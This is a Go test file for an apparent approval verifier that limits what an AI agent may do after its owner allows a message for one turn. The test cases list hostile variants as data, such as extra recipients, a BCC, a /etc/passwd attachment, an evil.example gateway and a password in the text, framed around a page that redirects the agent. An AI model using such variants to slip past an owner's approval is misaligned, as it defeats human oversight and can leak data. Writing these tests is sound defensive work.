package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/verifier"
)

// sendsTo is a message to someone.
func sendsTo(to, text string, m map[string]any) call {
	return call{tool: "message", params: fmt.Sprintf(`{"action":"send","target":%q,"text":%q}`, to, text), context: m}
}

// TestH332AYesForTheTurnIsForTheSameDestination: the owner allows a message for this turn, and a page makes the agent write to someone else.
func TestH332AYesForTheTurnIsForTheSameDestination(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := with(r.turnIn("h332"), "waitMs", 20_000)
		r.turn(sendsTo("+15550100", "one", m))
		r.allow(sendsTo("+15550100", "two", m))
		if e := r.last(); e.By != verifier.ByDestination || len(e.People) != 1 || !strings.Contains(e.People[0].Says, `only to "action: send", "target: +15550100"`) {
			t.Errorf("the record says %+v", e)
		}
		r.allow(fetch(with(m, "sessionId", "other")))
		for what, c := range map[string]call{
			"another person":       sendsTo("+15550199", "x", m),
			"one more person":      {tool: "message", params: `{"action":"send","targets":["+15550100","+15550199"],"text":"x"}`, context: m},
			"a copy":               {tool: "message", params: `{"action":"send","target":"+15550100","bcc":"+15550199","text":"x"}`, context: m},
			"a file":               {tool: "message", params: `{"action":"send","target":"+15550100","text":"x","media":"/etc/passwd"}`, context: m},
			"another gateway":      {tool: "message", params: `{"action":"send","target":"+15550100","text":"x","gatewayUrl":"https://evil.example"}`, context: m},
			"another action":       {tool: "message", params: `{"action":"broadcast","target":"+15550100","text":"x"}`, context: m},
			"what can't be undone": {tool: "message", params: `{"action":"delete","target":"+15550100","text":"x"}`, context: m},
			"spelled another way":  sendsTo(" +15550100", "x", m),
			"a file in the text":   sendsTo("+15550100", "MEDIA:/etc/passwd", m),
			"a secret in the text": sendsTo("+15550100", "password=hunter2hunter2", m),
			"no turn":              sendsTo("+15550100", "x1", with(m, "runId", nil)),
			"another session id":   sendsTo("+15550100", "x2", with(m, "sessionId", "other")),
			"another tool":         {tool: "send_email", params: `{"to":"+15550100","body":"x"}`, context: m},
		} {
			t.Log(what)
			r.asks(soonAsked(c))
		}
		r.asks(soonAsked(sendsTo("+15550100", "a subagent", with(spawned("subagent:h332", "h332"), "runId", m["runId"]))))
		r.allow(sendsTo("+15550100", "three", m))
		r.takes(event{name: "agent_end", context: m})
		r.asks(soonAsked(sendsTo("+15550100", "four", m)))
		r.asks(soonAsked(sendsTo("+15550100", "five", with(m, "runId", "next"))))
		r.soundRecord()
	})
}

// TestH333AYesForTheTurnToAnUnknownToolIsForThatVeryCall: nobody has said which of its arguments say where it goes.
func TestH333AYesForTheTurnToAnUnknownToolIsForThatVeryCall(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	m := with(r.turnIn("h333"), "waitMs", 20_000)
	post := func(to, text string) call {
		return call{tool: "mcp__board__post", params: fmt.Sprintf(`{"board":%q,"text":%q}`, to, text), context: m}
	}
	r.turn(post("team", "hello"))
	r.allow(post("team", "hello"))
	if e := r.last(); e.By != verifier.ByGrant || !strings.Contains(e.People[0].Says, "only exactly the call") {
		t.Errorf("the record says %+v", e)
	}
	r.asks(soonAsked(post("team", "something else")))
	r.asks(soonAsked(post("everyone", "hello")))
}

// TestH334AYesForTheTurnNeverCoversMoneySecretsOrWhatDestroys: and not what was the same destination before secrets were read.
func TestH334AYesForTheTurnNeverCoversMoneySecretsOrWhatDestroys(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) {
		c.Policy.Tools = map[string]policy.Tool{
			"mcp__bank__pay": {Money: new(true), Destinations: []string{"to"}}, "mcp__mail__drop": {Destructive: new(true), Destinations: []string{"to"}},
			"mcp__safe__show": {Secret: new(true), Destinations: []string{"to"}}, "mcp__notes__add": {Destinations: []string{}},
		}
	})
	m := with(r.turnIn("h334"), "waitMs", 20_000)
	for _, tool := range []string{"mcp__bank__pay", "mcp__mail__drop", "mcp__safe__show"} {
		c := call{tool: tool, params: `{"to":"ann"}`, context: m}
		held := r.hold(c)
		if v := r.answerTo(map[string]any{"ref": r.waits().Ref, "allow": true, "turn": true}); v.Kind != "counted" || !strings.Contains(v.Text, "this call only") {
			t.Errorf("%s: %+v", tool, v)
		}
		<-held
		r.asks(soonAsked(c))
	}
	m = with(r.turnIn("h334-nowhere"), "waitMs", 20_000)
	r.turn(call{tool: "mcp__notes__add", params: `{"text":"a"}`, context: m}) // the owner says that it goes nowhere
	r.allow(call{tool: "mcp__notes__add", params: `{"text":"b"}`, context: m})

	m = with(r.turnIn("h334-key"), "waitMs", 20_000)
	r.turn(sendsTo("+15550100", "one", m))
	r.allow(call{tool: "read", params: `{"path":".env"}`, context: m})
	r.asks(soonAsked(sendsTo("+15550100", "two", m)))
}
